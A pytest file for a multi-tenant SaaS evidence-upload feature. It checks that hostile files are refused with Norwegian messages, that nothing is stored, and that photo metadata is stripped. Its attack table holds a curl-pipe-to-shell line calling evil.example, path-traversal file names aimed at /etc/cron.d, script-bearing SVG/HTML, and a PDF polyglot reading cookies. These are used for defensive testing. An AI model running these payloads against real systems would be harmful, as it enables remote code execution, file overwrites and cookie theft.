"""Hostile uploads are refused with a clear Norwegian message, and nothing is stored: no row, no file."""
from __future__ import annotations

import io
from pathlib import Path

import pytest
from PIL import Image
from sqlalchemy import event, func, select
from sqlalchemy.exc import SQLAlchemyError

from saas.hms.models import Evidence
from saas.tenancy import bind_tenant, bound_tenant
from tests import factories
from tests.conftest import login

PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
MB = 1024 * 1024


png_bytes = factories.png_bytes


ATTACKS = {
    "a script renamed to .pdf": (b"#!/bin/sh\ncurl https://evil.example | sh\n", "rapport.pdf", "Filtypen er ikke tillatt"),
    "a PNG named .jpg": (png_bytes(), "bilde.jpg", "stemmer ikke med innholdet"),
    "a file name containing ../": (PDF, "../../../etc/cron.d/rapport.pdf", "ulovlige tegn"),
    "a file name with a backslash path": (PDF, "..\\..\\rapport.pdf", "ulovlige tegn"),
    "an SVG": (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "tegning.svg", "Filtypen er ikke tillatt"),
    "an SVG named .png": (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>', "tegning.png", "Filtypen er ikke tillatt"),
    "a PDF/HTML polyglot": (b"%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>\n%%EOF\n", "rapport.pdf", "aktivt innhold"),
    "a PDF with JavaScript": (PDF.replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "rapport.pdf", "aktivt innhold"),
    "an HTML page named .pdf": (b"<!doctype html><html><script>alert(1)</script></html>", "rapport.pdf", "Filtypen er ikke tillatt"),
    "a zip that is no Office file": (b"PK\x03\x04" + b"\x00" * 100, "regneark.xlsx", "Filtypen er ikke tillatt"),
    "a file just over 20 MB": (PDF + b"0" * (20 * MB), "stor.pdf", "Filen er for stor"),
    "an empty file": (b"", "tom.pdf", "Filen er tom"),
    "a broken JPEG": (b"\xff\xd8\xff\xe0" + b"\x00" * 50, "bilde.jpg", "Bildet kan ikke leses"),
}


@pytest.fixture
def a(two_tenants, db):
    bind_tenant(db, two_tenants["a"]["tenant"].id)
    return two_tenants["a"]


def stored_files(app) -> set[Path]:
    root = Path(app.config["STORAGE_DIR"])
    return {p for p in root.rglob("*") if p.is_file()} if root.exists() else set()


def evidence_count(db) -> int:
    bind_tenant(db, bound_tenant(db))
    return db.scalar(select(func.count(Evidence.id)))


def post_file(client, url: str, data: bytes, name: str):
    return client.post(url, data={"file": (io.BytesIO(data), name)}, content_type="multipart/form-data")


@pytest.mark.parametrize("attack", list(ATTACKS))
def test_an_upload_attack_is_refused_with_a_clear_message_and_nothing_is_stored(app, client, db, a, attack):
    data, name, message = ATTACKS[attack]
    login(client, a["client"])
    files_before, rows_before = stored_files(app), evidence_count(db)
    response = post_file(client, f"/t/tenant-a/evidence/new?target_type=action_item&target_id={a['action'].id}", data, name)
    body = response.get_data(as_text=True)
    assert response.status_code == 422
    assert message in body and 'role="alert"' in body
    assert stored_files(app) == files_before
    assert evidence_count(db) == rows_before


@pytest.mark.parametrize("attack", ["a script renamed to .pdf", "a file name containing ../", "a PDF/HTML polyglot"])
def test_replacing_with_a_hostile_file_is_refused_too(app, client, db, a, attack):
    data, name, message = ATTACKS[attack]
    login(client, a["consultant"])
    response = post_file(client, f"/t/tenant-a/evidence/new?target_type=action_item&target_id={a['action'].id}", PDF, "ok.pdf")
    assert response.status_code == 302
    bind_tenant(db, bound_tenant(db))
    good = db.scalar(select(Evidence).where(Evidence.original_name == "ok.pdf"))
    files_before, rows_before = stored_files(app), evidence_count(db)
    response = post_file(client, f"/t/tenant-a/evidence/{good.id}/replace", data, name)
    assert response.status_code == 422 and message in response.get_data(as_text=True)
    assert stored_files(app) == files_before and evidence_count(db) == rows_before
    db.expire_all()
    bind_tenant(db, bound_tenant(db))
    assert db.get(Evidence, good.id).superseded is False


def test_a_25_mb_request_gets_413_with_a_norwegian_message_not_a_bare_error(app, client, db, a):
    login(client, a["client"])
    files_before, rows_before = stored_files(app), evidence_count(db)
    response = post_file(client, f"/t/tenant-a/evidence/new?target_type=action_item&target_id={a['action'].id}",
                         PDF + b"0" * (25 * MB), "stor.pdf")
    assert response.status_code == 413
    body = response.get_data(as_text=True)
    assert "Filen er for stor. Største tillatte størrelse er 20 MB." in body
    assert "<html" in body and "Logg ut" in body  # the product's own page, not a bare server error
    assert stored_files(app) == files_before and evidence_count(db) == rows_before


def gps_jpeg() -> bytes:
    image = Image.new("RGB", (64, 48), (30, 120, 200))
    exif = Image.Exif()
    exif[0x010F] = "Kamerafabrikken"  # Make
    exif[0x0131] = "Hemmelig telefon"  # Software
    gps = exif.get_ifd(0x8825)
    gps.update({1: "N", 2: (59.0, 39.0, 55.0), 3: "E", 4: (9.0, 39.0, 2.0)})  # Kongsberg
    out = io.BytesIO()
    image.save(out, format="JPEG", exif=exif)
    data = out.getvalue()
    with Image.open(io.BytesIO(data)) as check:  # the test photo really carries a position
        assert check.getexif().get_ifd(0x8825).get(2) is not None
    return data


def test_an_uploaded_photos_gps_exif_is_gone_after_upload(app, client, db, a):
    login(client, a["client"])
    original = gps_jpeg()
    response = post_file(client, f"/t/tenant-a/evidence/new?target_type=action_item&target_id={a['action'].id}", original, "foto.jpg")
    assert response.status_code == 302
    bind_tenant(db, bound_tenant(db))
    evidence = db.scalar(select(Evidence).where(Evidence.original_name == "foto.jpg"))
    download = client.get(f"/t/tenant-a/evidence/{evidence.id}/download")
    assert download.status_code == 200 and download.mimetype == "image/jpeg"
    assert b"Hemmelig telefon" not in download.data and b"Exif" not in download.data
    with Image.open(io.BytesIO(download.data)) as photo:
        exif = photo.getexif()
        assert not exif.get_ifd(0x8825)  # no GPS IFD
        assert len(exif) == 0 and "exif" not in photo.info
        assert photo.size == (64, 48)
    import hashlib

    assert evidence.sha256 == hashlib.sha256(download.data).hexdigest()  # the hash of what is kept


def test_a_png_keeps_no_text_or_exif_metadata(app, client, db, a):
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "Hemmelig kommentar")
    exif = Image.Exif()
    exif.get_ifd(0x8825).update({1: "N", 2: (59.0, 39.0, 55.0)})
    out = io.BytesIO()
    Image.new("RGB", (10, 10)).save(out, format="PNG", pnginfo=info, exif=exif)
    login(client, a["client"])
    assert post_file(client, f"/t/tenant-a/evidence/new?target_type=action_item&target_id={a['action'].id}", out.getvalue(), "skjerm.png").status_code == 302
    bind_tenant(db, bound_tenant(db))
    evidence = db.scalar(select(Evidence).where(Evidence.original_name == "skjerm.png"))
    data = client.get(f"/t/tenant-a/evidence/{evidence.id}/download").data
    assert b"Hemmelig kommentar" not in data
    with Image.open(io.BytesIO(data)) as image:
        assert not image.getexif().get_ifd(0x8825) and "Comment" not in image.info


def test_a_failing_database_insert_leaves_no_file_on_disk(app, client, db, a):
    login(client, a["client"])
    files_before = stored_files(app)

    def break_the_insert(mapper, connection, target):
        target.uploaded_by = 2_000_000_000  # no such user: the foreign key fails inside the INSERT

    url = f"/t/tenant-a/evidence/new?target_type=action_item&target_id={a['action'].id}"
    event.listen(Evidence, "before_insert", break_the_insert)
    try:
        response = post_file(client, url, PDF, "rapport.pdf")
        status = response.status_code
    except SQLAlchemyError:
        # The 500 page renders with the failed session (its objects expired by the rollback) and fails
        # itself until the error handler rolls the session back first (asked of the lead); the request
        # is over either way, and the file must be gone.
        status = 500
    finally:
        event.remove(Evidence, "before_insert", break_the_insert)
    assert status == 500
    assert stored_files(app) == files_before
    assert evidence_count(db) == 1  # only the world's own row


def test_a_photos_comment_and_xmp_are_gone_too(app, client, db, a):
    out = io.BytesIO()
    xmp = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><exif:GPSLatitude>59,39.55N</exif:GPSLatitude></x:xmpmeta>'
    Image.new("RGB", (16, 16), (10, 200, 10)).save(out, format="JPEG", comment=b"Tatt hjemme hos Hemmelig Person", xmp=xmp)
    assert b"Hemmelig Person" in out.getvalue() and b"GPSLatitude" in out.getvalue()
    login(client, a["client"])
    url = f"/t/tenant-a/evidence/new?target_type=action_item&target_id={a['action'].id}"
    assert post_file(client, url, out.getvalue(), "kommentar.jpg").status_code == 302
    bind_tenant(db, bound_tenant(db))
    evidence = db.scalar(select(Evidence).where(Evidence.original_name == "kommentar.jpg"))
    data = client.get(f"/t/tenant-a/evidence/{evidence.id}/download").data
    assert b"Hemmelig Person" not in data and b"GPSLatitude" not in data
    with Image.open(io.BytesIO(data)) as photo:
        assert "comment" not in photo.info and "xmp" not in photo.info


def test_a_transparent_png_stays_transparent(app, client, db, a):
    out = io.BytesIO()
    image = Image.new("RGBA", (4, 4), (0, 0, 0, 0))
    image.putpixel((1, 1), (255, 0, 0, 255))
    image.save(out, format="PNG")
    login(client, a["client"])
    url = f"/t/tenant-a/evidence/new?target_type=action_item&target_id={a['action'].id}"
    assert post_file(client, url, out.getvalue(), "logo.png").status_code == 302
    bind_tenant(db, bound_tenant(db))
    evidence = db.scalar(select(Evidence).where(Evidence.original_name == "logo.png"))
    with Image.open(io.BytesIO(client.get(f"/t/tenant-a/evidence/{evidence.id}/download").data)) as png:
        assert png.convert("RGBA").getpixel((0, 0))[3] == 0 and png.convert("RGBA").getpixel((1, 1)) == (255, 0, 0, 255)
